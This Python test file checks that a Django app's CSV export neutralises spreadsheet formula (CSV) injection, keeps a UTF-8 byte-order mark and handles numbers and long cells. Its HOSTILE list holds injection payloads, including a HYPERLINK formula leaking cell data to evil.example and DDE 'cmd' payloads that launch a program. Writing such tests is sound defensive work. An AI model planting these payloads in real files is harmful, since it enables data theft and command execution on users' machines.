"""CSV export: no cell a spreadsheet would run as a formula (OWASP CSV injection rule, rights/csvsafe.py), and
still UTF-8 with a byte-order mark so Excel reads the Chinese names."""
import csv
import io
import time

import pytest
from django.urls import reverse

from rights.csvsafe import neutralise, safe_row
from rights.roles import CASE_WORKER
from tests.factories import UserFactory, file, shanghai

EXPORT = reverse("admin:rights_rightsrequest_export")

# The findings of the probe, and their cousins.
HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "=1+1",
    "\t=1+1",
    "\r=1+1",
    "   =1+1",  # spreadsheets that trim leading spaces would still evaluate it
    "\u3000=1+1",  # an ideographic space
    "＝1+1",  # the full-width equals sign of a Chinese input method
]


@pytest.mark.parametrize("cell", HOSTILE)
def test_a_cell_a_spreadsheet_would_evaluate_gets_a_leading_apostrophe(cell):
    assert neutralise(cell) == "'" + cell


@pytest.mark.parametrize("cell", ["张三", "LM-20260928-01", "a=b", "2026-10-13", "", "138****5678", "e-mail: x@y.cn"])
def test_ordinary_text_is_left_as_it_is(cell):
    assert neutralise(cell) == cell


def test_numbers_stay_numbers_even_negative_ones():
    # "working days left" is -3 when overdue: an int the export writes, not text someone typed
    assert safe_row([12, -3, None, "=x"]) == [12, -3, None, "'=x"]


@pytest.mark.parametrize("text", [" " * 100_000, "=" + "a" * 100_000, "a" * 100_000])
def test_the_check_is_linear_on_a_100k_character_cell(text):
    started = time.perf_counter()
    neutralise(text)
    assert time.perf_counter() - started < 1.0


def is_number(cell: str) -> bool:
    try:
        int(cell)
    except ValueError:
        return False
    return cell.isascii()


@pytest.mark.django_db
def test_the_export_neutralises_the_requesters_name_ticket_and_channel(client, catalog, english):
    clerk = UserFactory(username="clerk", role=CASE_WORKER)
    client.force_login(clerk)
    lumiere = catalog["卢米埃影城"]
    for name in HOSTILE[:4]:
        file(lumiere, at=shanghai(2026, 9, 28, 10), requester=name, app_ticket_number="=1+1", channel_used="@客服")

    body = b"".join(client.get(EXPORT).streaming_content)
    assert body.startswith("\ufeff".encode())  # UTF-8 with BOM, for Excel
    header, *rows = list(csv.reader(io.StringIO(body.decode("utf-8").lstrip("\ufeff"))))
    assert len(rows) == 4
    for row in rows:
        for cell in row:
            # what Excel sees: no cell, after any leading whitespace, starts a formula
            assert cell.lstrip()[:1] not in set("=+-@＝＋－＠") or is_number(cell), row
    names = {row[header.index("requester")] for row in rows}
    assert names == {"'" + name for name in HOSTILE[:4]}
    assert {row[header.index("app's ticket number")] for row in rows} == {"'=1+1"}
    assert {row[header.index("channel used")] for row in rows} == {"'@客服"}
